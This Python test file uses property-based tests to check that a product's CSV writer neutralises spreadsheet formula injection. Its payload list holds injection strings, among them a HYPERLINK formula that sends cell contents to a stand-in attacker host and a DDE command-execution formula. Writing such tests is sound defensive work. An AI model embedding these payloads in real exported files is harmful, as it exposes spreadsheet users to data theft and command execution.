"""S11 in CI size: 2,000 tables by hypothesis; formulas 0. The product writes CSV and no XLSX."""

import csv
from io import StringIO
from itertools import chain
from typing import Final

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from infrastructure.documents.csv_paper import csv_paper
from tests.architecture.source import PRODUCT, ROOT

TABLES: Final = 2000
BEGINS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS: Final = (
    *('=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A)"),
    *("\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1+1", '","=1', '"\n=1'),
)
SIGNS: Final = [*BEGINS, '"', ",", ";", "'", "\x00"]
CELLS: Final = st.one_of(
    st.text(max_size=12),
    st.sampled_from(PAYLOADS),
    st.builds(str.__add__, st.sampled_from(SIGNS), st.text(max_size=6)),
)
ROWS: Final = st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=3)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


def formulas(text: str) -> list[str]:
    """Read a file as a spreadsheet does, and return what it would compute."""
    return [
        cell
        for row in read(text)
        for cell in row
        if cell.startswith(BEGINS) or cell.strip().startswith(("=", "+", "-", "@"))
    ]


@settings(max_examples=TABLES, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(ROWS)
def test_no_cell_that_we_write_is_a_formula(rows: list[list[str]]) -> None:
    """S11; and nothing of what was written is lost."""
    text = csv_paper(rows)
    assert formulas(text) == []
    back = zip(chain(*read(text)), chain(*rows), strict=True)
    assert all(cell in {asked, f"'{asked}"} for cell, asked in back)


def test_the_library_alone_would_write_formulas() -> None:
    """The negative control: the very same cells by the plain writer."""
    text = StringIO(newline="")
    csv.writer(text).writerows([payload] for payload in PAYLOADS)
    assert len(formulas(text.getvalue())) >= len(PAYLOADS) - 2
    assert formulas(csv_paper([payload] for payload in PAYLOADS)) == []


def test_nothing_else_of_the_product_writes_tables() -> None:
    """The made-up district is written for our own importers, which want what was made up."""
    own = {"infrastructure/documents/csv_paper.py", "infrastructure/embedded/district/written.py"}
    signs = ("csv.writer", "DictWriter", "openpyxl", "xlsxwriter", "to_csv")
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in PRODUCT
        for path in (ROOT / folder).rglob("*.py")
        if any(sign in path.read_text(encoding="utf-8") for sign in signs)
    }
    assert found == own
